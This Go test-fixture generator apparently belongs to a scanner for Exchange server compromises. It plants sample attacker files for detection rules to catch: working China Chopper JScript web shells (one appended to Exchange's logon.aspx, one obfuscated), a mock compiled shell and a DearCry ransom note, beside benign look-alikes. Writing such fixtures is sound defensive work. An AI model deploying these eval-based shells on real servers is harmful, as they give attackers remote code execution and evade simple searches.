package testserver

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"path"
	"strings"
	"time"
	"unicode/utf16"

	"github.com/exhunt/exhunt/finding"
)

// baseline records one of Exchange's own files, as installed, in the
// manifest's known-good baseline.
func (g *generator) baseline(rel string, content []byte) {
	_, onVol := g.volumeOf(rel)
	_, inst := g.volumeOf(g.inst)
	if !strings.HasPrefix(onVol, inst+"/") {
		return // not below the install folder
	}
	sum := sha256.Sum256(content)
	win := `\` + strings.ReplaceAll(strings.TrimPrefix(onVol, inst+"/"), "/", `\`)
	g.man.Baseline = append(g.man.Baseline, strings.ToUpper(hex.EncodeToString(sum[:]))+","+g.installedBuild()+","+win)
}

// jscriptChopper is a China Chopper in its JScript form, with the request
// parameter's name split so that a search for the usual one-liner misses.
const jscriptChopper = `<%@ Page Language="Jscript" Debug=false%>` + "\r\n" +
	`<%var p = "Req" + "uest"; eval(Request.Item["t3"], "unsafe");%>` + "\r\n"

// obfuscatedShell is a JScript page run through a JavaScript obfuscator:
// the strings sit in a hex-named array and the eval is reached through it.
const obfuscatedShell = `<%@ Page Language="JScript"%><%` +
	`var _0x4f2a=['\x49\x74\x65\x6d','\x75\x6e\x73\x61\x66\x65','\x52\x65\x71\x75\x65\x73\x74'];` +
	`(function(_0x1b7c,_0x4f2a9c){var _0x3e1d=function(_0x5a0b){while(--_0x5a0b){_0x1b7c['push'](_0x1b7c['shift']());}};_0x3e1d(++_0x4f2a9c);}(_0x4f2a,0x7b));` +
	`var _0x3c8e=function(_0x1b7c){return _0x4f2a[_0x1b7c];};` +
	`eval(this[_0x3c8e(0x2)][_0x3c8e(0x0)]['\x7a'],_0x3c8e(0x1));%>`

// compiledShell is what ASP.NET leaves in Temporary ASP.NET Files after
// running a China Chopper page: a small .NET assembly whose user strings
// (UTF-16) hold the page's code.
func compiledShell() []byte {
	b := make([]byte, 0x400)
	copy(b, "MZ")
	binary.LittleEndian.PutUint32(b[0x3c:], 0x80)
	copy(b[0x80:], "PE\x00\x00")
	binary.LittleEndian.PutUint16(b[0x84:], 0x14c)
	copy(b[0x200:], "\x00<Module>\x00App_Web_errorfs.aspx.cdcab7d2.dll\x00Microsoft.JScript\x00JScriptEvaluate\x00Microsoft.JScript.Vsa\x00")
	for _, s := range []string{"Request", "Item", "unsafe", "Jscript"} {
		for _, c := range utf16.Encode([]rune(s)) {
			b = binary.LittleEndian.AppendUint16(b, c)
		}
		b = append(b, 0, 0)
	}
	return b
}

// dearCryNote is a ransom note of the DearCry family that followed the
// Exchange exploitation, with a made-up contact and key.
const dearCryNote = "Your file has been encrypted!\r\n" +
	"If you want to decrypt, please contact us.\r\n" +
	"konedieyp@airmail.cc or uenwonken@memail.com\r\n" +
	"And please send me the following hash!\r\n" +
	"0a1b2c3d4e5f60718293a4b5c6d7e8f9\r\n"

// contentOnly plants attacker files that only their content gives away:
// names Exchange uses or that no location rule knows, and a shell hidden
// inside one of Exchange's own pages.
func (g *generator) contentOnly() error {
	if !g.opt.Attacks {
		return nil
	}
	at := time.Date(2021, 3, 3, 7, 31, 0, 0, time.UTC)
	owaAuth := g.exchange("FrontEnd/HttpProxy/owa/auth")
	page := "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %>\r\n<html><body></body></html>\r\n"
	plants := []struct {
		rel, content, why string
		rule            string
		sev             finding.Severity
	}{
		// Exchange's own logon page with a China Chopper appended: its name
		// is Exchange's, only its content (and hash) differ.
		{owaAuth + "/logon.aspx", page + `<script language="JScript" runat="server">function Page_Load(){eval(Request["code"],"unsafe");}</script>` + "\r\n",
			"China Chopper appended to Exchange's own logon.aspx", "content-webshell", finding.Critical},
		{g.exchange("ClientAccess/owa/auth/errorEEA.aspx"), jscriptChopper,
			"JScript China Chopper in the back end's OWA folder", "content-webshell", finding.Critical},
		{g.exchange("FrontEnd/HttpProxy/owa/" + g.cuBuild() + "/scripts/premium/cache.aspx"), obfuscatedShell,
			"obfuscated (_0x) JScript shell among OWA's scripts", "content-webshell", finding.Critical},
		{"Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/9c8b7a6d/5e4f3a2b/App_Web_errorfs.aspx.cdcab7d2.x1y2z3w4.dll", string(compiledShell()),
			"compiled China Chopper page left by ASP.NET", "content-webshell", finding.Critical},
		{"Users/Public/readme.txt", dearCryNote, "DearCry ransom note", "content-ransomware", finding.Critical},
	}
	for _, p := range plants {
		if err := g.writeFile(p.rel, []byte(p.content), at); err != nil {
			return err
		}
		g.expect(p.rule, p.sev, p.rel, 0, p.why)
	}
	// Benign look-alikes beside them: OWA's script that evaluates JSON, and
	// an ordinary compiled page.
	benign := map[string][]byte{
		g.exchange("FrontEnd/HttpProxy/owa/" + g.cuBuild() + "/scripts/premium/json.js"): []byte("function parse(t){return eval('(' + t + ')');}\r\n"),
		"Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/9c8b7a6d/5e4f3a2b/App_Web_logon.aspx.cdcab7d2.a1b2c3d4.dll": []byte("MZ\x90\x00 Microsoft.Exchange.HttpProxy.Logon App_Web_logon"),
	}
	for rel, content := range benign {
		if err := g.writeFile(rel, content, installTime); err != nil {
			return err
		}
		if path.Ext(rel) == ".js" {
			g.baseline(rel, content)
		}
	}
	return nil
}
